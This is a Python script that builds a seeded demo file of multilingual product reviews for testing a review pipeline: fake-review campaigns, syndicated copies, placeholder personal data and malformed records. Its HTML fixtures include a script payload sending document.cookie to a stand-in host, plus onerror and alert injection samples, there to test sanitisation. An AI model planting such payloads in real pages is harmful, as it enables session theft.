"""Makes the embedded demo sample: pipeline/data/demo_reviews.jsonl (deterministic, seed fixed).

    python scripts/make_demo_sample.py [--nsmc ../shared/datasets/nsmc-ko-reviews-bucket0.tsv]

Contents (a few thousand lines), so that the demo and the end-to-end test exercise every path:

* Korean: real reviews sampled from the Naver Sentiment Movie Corpus (CC0, ../shared/datasets),
  stratified over ratings so honest negative reviews are well represented; ratings 1–10 become
  1–5 stars as ceil(r/2). Short honest reviews ("굿", "재밌어요") stay in.
* English and Japanese: reviews written here from templates (positive, mixed and honest
  negative), for a small kitchen-appliance catalogue. The other two data sets in
  ../shared/datasets are not ours to ship, so none of their text is used.
* Near-duplicate campaigns (many accounts, lightly edited copies; one author pasting across
  products), syndicated copies from a partner, honest short reviews repeated by many authors,
  personal data to redact, HTML and script, disclosure labels (incentivized, employee).
* Redeliveries (the same review_id twice) and malformed lines of every kind: invalid JSON, JSON
  that is not an object, missing and mistyped fields, ratings out of range, bad timestamps,
  invalid UTF-8, over-size text, deep nesting, blank lines.

The expected counts are printed at the end and checked by tests/test_end_to_end.py.
"""
from __future__ import annotations

import argparse
import csv
import datetime as dt
import json
import math
import random
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
DEFAULT_NSMC = ROOT.parent / "shared" / "datasets" / "nsmc-ko-reviews-bucket0.tsv"
OUT = ROOT / "pipeline" / "data" / "demo_reviews.jsonl"
SEED = 20261125

PRODUCTS = {
    "kettle-01": ("electric kettle", "ケトル"), "blender-02": ("blender", "ミキサー"),
    "toaster-03": ("toaster", "トースター"), "grinder-04": ("coffee grinder", "コーヒーミル"),
    "airfryer-05": ("air fryer", "エアフライヤー"), "ricecooker-06": ("rice cooker", "炊飯器"),
    "mixer-07": ("stand mixer", "スタンドミキサー"), "scale-08": ("kitchen scale", "キッチンスケール"),
}
EN_POS = ["Heats up fast and the {p} looks great on the counter.", "I use this {p} every morning and it has not let me down.",
          "Solid build, easy to clean, and the controls make sense.", "Much quieter than my old {p}.",
          "Great value for the price, would buy again.", "Setup took two minutes and it worked perfectly.",
          "My partner loves it too; we gave one to my parents.", "The handle stays cool and the lid closes firmly."]
EN_NEG = ["The {p} stopped working after three weeks.", "It leaks from the base every time I use it.",
          "Customer service never answered my emails about the broken switch.", "Far too loud, I can't use it early in the morning.",
          "The plastic smell never went away, even after ten uses.", "Arrived with a cracked lid and the replacement took a month.",
          "The timer is inaccurate by several minutes.", "Cheap materials; the button fell off in the first week.",
          "Do not buy this {p}. It burned out and nearly tripped the breaker.", "Returned it. It does not do what the listing promises."]
EN_MIX = ["Works fine, but the cord is too short.", "Good {p} overall, though the manual is confusing.",
          "Does the job. Nothing special, nothing terrible.", "Nice design, average performance."]
EN_TITLES_POS = ["Love it", "Great {p}", "Exactly what I needed", "Five stars", "Very happy"]
EN_TITLES_NEG = ["Disappointed", "Broke quickly", "Not worth it", "Avoid", "Terrible {p}"]
JA_POS = ["{p}は毎朝使っています。とても便利です。", "デザインがかわいくて、音も静かです。", "値段の割に品質が良いと思います。",
          "すぐに届きました。また買いたいです。", "使い方が簡単で、母にもプレゼントしました。"]
JA_NEG = ["{p}が三週間で壊れました。残念です。", "においがずっと取れません。返品しました。", "音が大きすぎて夜は使えません。",
          "フタが割れた状態で届きました。対応も遅かったです。", "説明書がわかりにくく、結局使えませんでした。"]
JA_MIX = ["悪くはないですが、コードが短いです。", "普通に使えます。特に不満はありません。"]
CAMPAIGN_EN = ("This is hands down the best {p} I have ever owned! Amazing quality, super fast shipping, and the "
               "seller is so helpful. Everyone in my family wants one now. Highly recommend to anyone looking "
               "for a reliable {p}, you will not regret it!")
CAMPAIGN_KO = "이 제품 정말 최고예요 배송도 빠르고 품질도 훌륭합니다 가족 모두 만족하고 있어요 강력 추천합니다 후회 안 하실 거예요"
CAMPAIGN_JA = "本当に最高の商品です！品質も素晴らしく、配送もとても早かったです。家族全員が満足しています。絶対におすすめします。"
REPEATER_EN = ("Bought this for my kitchen remodel and it exceeded every expectation. Five stars from me, the best "
               "purchase of the year without a doubt.")
PII_TEXTS = [
    ("en", "Broke in a week. Seller, call me at (415) 555-2671 or write to jane.doe@example.com about the refund."),
    ("en", "Great {p}! If you want mine, I'm at 1600 Pennsylvania Avenue, Apt 4, just stop by."),
    ("en", "Charged twice to my card 4111 1111 1111 1111, still waiting for the refund. The {p} itself is fine."),
    ("ko", "환불 문의 010-1234-5678 로 연락 주세요. 제품은 별로였습니다."),
    ("ko", "서울시 강남구 테헤란로 123 으로 반품 보냈는데 아직 처리가 안 됐어요."),
    ("ja", "〒150-0001 東京都渋谷区神宮前1丁目2-3 まで交換品を送ってください。"),
]
HTML_TEXTS = [
    "<p>Really <b>good</b> {p}.</p><p>Second paragraph&nbsp;here.</p>",
    "Nice {p} <script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=alert(1)> Works as described.",
    "Tom &amp; Jerry approve &lt;3",
    "&lt;script&gt;alert('encoded')&lt;/script&gt; Fine {p} otherwise.",
]


def iso(t: dt.datetime) -> str:
    return t.isoformat().replace("+00:00", "Z")


class Sample:
    def __init__(self, rng: random.Random):
        self.rng = rng
        self.lines: list = []
        self.counter = 0
        self.expect = {"valid_unique": 0, "redelivery": 0, "malformed": {}, "blank": 0}

    def time(self, start=dt.datetime(2024, 1, 1, tzinfo=dt.timezone.utc), days=700) -> dt.datetime:
        return start + dt.timedelta(seconds=self.rng.randrange(days * 86400))

    def next_id(self, prefix: str) -> str:
        self.counter += 1
        return f"{prefix}-{self.counter:05d}"

    def review(self, prefix, product, author, rating, body, **extra) -> dict:
        rec = {"review_id": self.next_id(prefix), "product_id": product, "author_id": author,
               "rating": rating, "body": body, "created_at": iso(extra.pop("created_at", None) or self.time())}
        rec.update({k: v for k, v in extra.items() if v is not None})
        return rec

    def add(self, rec: dict) -> dict:
        self.lines.append(json.dumps(rec, ensure_ascii=False).encode("utf-8"))
        self.expect["valid_unique"] += 1
        return rec

    def add_raw(self, raw: bytes, code: str) -> None:
        self.lines.append(raw)
        self.expect["malformed"][code] = self.expect["malformed"].get(code, 0) + 1


def english(s: Sample, n: int) -> list:
    out = []
    for _ in range(n):
        pid = s.rng.choice(list(PRODUCTS))
        p = PRODUCTS[pid][0]
        kind = s.rng.choices(["pos", "neg", "mix"], weights=[5, 3, 2])[0]
        if kind == "pos":
            rating, pool, titles = s.rng.choice([4, 4.5, 5, 5]), EN_POS, EN_TITLES_POS
        elif kind == "neg":
            rating, pool, titles = s.rng.choice([1, 1, 1.5, 2, 2.5]), EN_NEG, EN_TITLES_NEG
        else:
            rating, pool, titles = s.rng.choice([3, 3.5]), EN_MIX + EN_POS[:2] + EN_NEG[:2], ["OK", "Mixed feelings"]
        body = " ".join(x.format(p=p) for x in s.rng.sample(pool, s.rng.randint(1, 3)))
        rec = s.review("en", pid, f"user-{s.rng.randrange(100000):05d}", rating, body,
                       title=s.rng.choice(titles).format(p=p) if s.rng.random() < 0.7 else None,
                       language="en" if s.rng.random() < 0.5 else None,
                       verified_purchase=s.rng.random() < 0.6,
                       incentivized=True if s.rng.random() < 0.04 else None,
                       author_relationship="employee" if s.rng.random() < 0.01 else None,
                       source={"channel": s.rng.choice(["on_site", "on_site", "email_request"])})
        out.append(s.add(rec))
    return out


def japanese(s: Sample, n: int) -> list:
    out = []
    for _ in range(n):
        pid = s.rng.choice(list(PRODUCTS))
        p = PRODUCTS[pid][1]
        kind = s.rng.choices(["pos", "neg", "mix"], weights=[5, 3, 2])[0]
        pool, rating = {"pos": (JA_POS, s.rng.choice([4, 5])), "neg": (JA_NEG, s.rng.choice([1, 2])),
                        "mix": (JA_MIX, 3)}[kind]
        body = "".join(x.format(p=p) for x in s.rng.sample(pool, min(len(pool), s.rng.randint(1, 2))))
        rec = s.review("ja", pid, f"jp-{s.rng.randrange(100000):05d}", rating, body,
                       language="ja" if s.rng.random() < 0.3 else None,
                       verified_purchase=s.rng.random() < 0.5, source={"channel": "on_site"})
        out.append(s.add(rec))
    return out


def korean(s: Sample, path: Path, n: int) -> list:
    with path.open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle, delimiter="\t", quoting=csv.QUOTE_NONE))
    by_rating: dict = {}
    for row in rows:
        if row["review"].strip():
            by_rating.setdefault(int(row["rating"]), []).append(row)
    out = []
    for stars in range(1, 6):  # equal numbers per star bucket: honest negatives well represented
        pool = by_rating[2 * stars - 1] + by_rating[2 * stars]
        for row in s.rng.sample(pool, n // 5):
            yy, mm, dd = (int(x) for x in row["date"].split("."))
            when = dt.datetime(2000 + yy, mm, dd, tzinfo=dt.timezone(dt.timedelta(hours=9))) + dt.timedelta(
                seconds=s.rng.randrange(86400))
            rec = {"review_id": f"nsmc-{row['review_id']}", "product_id": f"movie-{row['movie_id']}",
                   "author_id": f"nsmc-{row['author']}", "rating": math.ceil(int(row["rating"]) / 2),
                   "body": row["review"], "created_at": when.isoformat(),
                   "source": {"channel": "import", "partner": "nsmc"}}
            if s.rng.random() < 0.3:
                rec["language"] = "ko"
            out.append(s.add(rec))
    return out


def edit_words(rng: random.Random, text: str, rate: float = 0.04) -> str:
    words = text.split(" ")
    for _ in range(max(1, int(len(words) * rate))):
        i = rng.randrange(len(words))
        op = rng.choice(["drop", "dup", "case"])
        if op == "drop" and len(words) > 3:
            words.pop(i)
        elif op == "dup":
            words.insert(i, words[i])
        else:
            words[i] = words[i].upper()
    return " ".join(words)


def edit_chars(rng: random.Random, text: str, rate: float = 0.03) -> str:
    chars = list(text)
    for _ in range(max(1, int(len(chars) * rate))):
        i = rng.randrange(len(chars))
        if rng.random() < 0.5 and len(chars) > 5:
            chars.pop(i)
        else:
            chars.insert(i, rng.choice("!~ "))
    return "".join(chars)


def campaigns(s: Sample) -> None:
    pids = list(PRODUCTS)
    for i in range(40):  # many accounts, one lightly edited text, five products
        pid = pids[i % 5]
        s.add(s.review("camp-en", pid, f"acct-{s.rng.randrange(10**6):06d}", 5,
                       edit_words(s.rng, CAMPAIGN_EN.format(p=PRODUCTS[pid][0])),
                       created_at=dt.datetime(2025, 3, 1, tzinfo=dt.timezone.utc) + dt.timedelta(hours=i)))
    for i in range(30):
        s.add(s.review("camp-ko", pids[i % 3], f"acct-ko-{s.rng.randrange(10**6):06d}", 5,
                       edit_chars(s.rng, CAMPAIGN_KO), language="ko"))
    for i in range(20):
        s.add(s.review("camp-ja", pids[i % 4], f"acct-ja-{s.rng.randrange(10**6):06d}", 5,
                       edit_chars(s.rng, CAMPAIGN_JA)))
    for pid in pids:  # one author repeating a text across products
        s.add(s.review("repeat", pid, "user-repeater", 5, REPEATER_EN))


def syndicated(s: Sample, originals: list, n: int) -> None:
    for rec in s.rng.sample(originals, n):
        copy = dict(rec, review_id=f"syn-{rec['review_id']}", author_id=f"partner-{rec['author_id']}",
                    source={"channel": "syndicated", "partner": "PartnerMart",
                            "url": f"https://partnermart.example/r/{rec['review_id']}"})
        copy.pop("verified_purchase", None)
        s.add(copy)


def short_honest(s: Sample) -> None:
    for text in ["Great!", "Love it", "Works.", "Great!", "Good"] * 6:
        s.add(s.review("short", s.rng.choice(list(PRODUCTS)), f"user-{s.rng.randrange(100000):05d}",
                       s.rng.choice([4, 5]), text))
    for text in ["Broke.", "Meh", "Bad"] * 4:
        s.add(s.review("short", s.rng.choice(list(PRODUCTS)), f"user-{s.rng.randrange(100000):05d}",
                       s.rng.choice([1, 2]), text))


def pii_and_html(s: Sample) -> None:
    for i in range(24):
        lang, text = PII_TEXTS[i % len(PII_TEXTS)]
        pid = s.rng.choice(list(PRODUCTS))
        s.add(s.review("pii", pid, f"user-{s.rng.randrange(100000):05d}", s.rng.choice([1, 2, 4]),
                       text.format(p=PRODUCTS[pid][0]), language=lang))
    for i in range(20):
        pid = s.rng.choice(list(PRODUCTS))
        s.add(s.review("html", pid, f"user-{s.rng.randrange(100000):05d}", s.rng.choice([2, 3, 5]),
                       HTML_TEXTS[i % len(HTML_TEXTS)].format(p=PRODUCTS[pid][0]),
                       title="<b>Review</b>" if i % 2 else None))
    for i in range(3):  # nothing readable survives cleaning → rejected as empty
        s.add(s.review("html", "kettle-01", f"user-x{i}", 3, "<script>alert('x')</script>"))


def redeliveries(s: Sample, originals: list, n: int) -> None:
    for rec in s.rng.sample(originals, n):
        s.lines.append(json.dumps(rec, ensure_ascii=False).encode("utf-8"))
        s.expect["redelivery"] += 1
    rec = dict(s.rng.choice(originals))
    rec["body"] = rec["body"] + " (edited)"
    s.lines.append(json.dumps(rec, ensure_ascii=False).encode("utf-8"))
    s.expect["redelivery"] += 1


def malformed(s: Sample) -> None:
    good = {"review_id": "bad-x", "product_id": "kettle-01", "author_id": "u", "rating": 4, "body": "fine",
            "created_at": "2025-01-01T00:00:00Z"}

    def variant(**changes):
        rec = dict(good, review_id=s.next_id("bad"))
        for k, v in changes.items():
            if v is ...:
                rec.pop(k)
            else:
                rec[k] = v
        return json.dumps(rec, ensure_ascii=False).encode("utf-8")

    for raw, code in [
        (b"{not json", "malformed_json"), (b'{"review_id": "x", ', "malformed_json"),
        (b"'single quotes'", "malformed_json"), (b'{"rating": NaN}', "malformed_json"),
        (b"[" * 5000 + b"]" * 5000, "malformed_json"),
        (b"[1, 2, 3]", "not_an_object"), (b'"just a string"', "not_an_object"), (b"42", "not_an_object"),
        (b"null", "not_an_object"),
        (variant(body=...), "missing_field"), (variant(review_id=...), "missing_field"),
        (variant(created_at=...), "missing_field"),
        (variant(rating="5"), "wrong_type"), (variant(body=["a"]), "wrong_type"), (variant(rating=True), "wrong_type"),
        (variant(verified_purchase="yes"), "wrong_type"),
        (variant(rating=0), "rating_out_of_range"), (variant(rating=6), "rating_out_of_range"),
        (variant(rating=3.7), "rating_out_of_range"), (variant(rating=-1), "rating_out_of_range"),
        (variant(created_at="yesterday"), "bad_timestamp"), (variant(created_at="2025-02-30T10:00:00Z"), "bad_timestamp"),
        (variant(created_at="2025-01-01T10:00:00"), "bad_timestamp"), (variant(created_at=1700000000), "wrong_type"),
        (variant(review_id=""), "invalid_value"), (variant(author_relationship="boss"), "invalid_value"),
        (variant(language="english!"), "invalid_value"), (variant(source={"channel": "fax"}), "invalid_value"),
        (variant(body="x" * 25_000), "too_large"),
        (b'{"review_id": "utf", "body": "caf\xe9"}', "invalid_utf8"), (b"\xff\xfe\x00garbage", "invalid_utf8"),
        (b"\x00\x00\x00", "malformed_json"),
    ]:
        s.add_raw(raw, code)
    for _ in range(5):
        s.lines.append(b"")
        s.expect["blank"] += 1
    s.lines.append(b"   \t ")
    s.expect["blank"] += 1


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--nsmc", type=Path, default=DEFAULT_NSMC)
    parser.add_argument("--out", type=Path, default=OUT)
    args = parser.parse_args()
    s = Sample(random.Random(SEED))
    originals = english(s, 900) + japanese(s, 450) + korean(s, args.nsmc, 1200)
    campaigns(s)
    syndicated(s, [r for r in originals if not r["review_id"].startswith("nsmc")], 60)
    short_honest(s)
    pii_and_html(s)
    redeliveries(s, originals, 25)
    malformed(s)
    lines = s.lines[:]
    s.rng.shuffle(lines)
    args.out.parent.mkdir(parents=True, exist_ok=True)
    args.out.write_bytes(b"\n".join(lines) + b"\n")
    expect = dict(s.expect, non_blank_lines=len(lines) - s.expect["blank"],
                  dead_letters=s.expect["redelivery"] + sum(s.expect["malformed"].values()))
    (args.out.parent / "demo_expected.json").write_text(json.dumps(expect, indent=2, sort_keys=True) + "\n")
    print(json.dumps(expect, sort_keys=True))


if __name__ == "__main__":
    main()
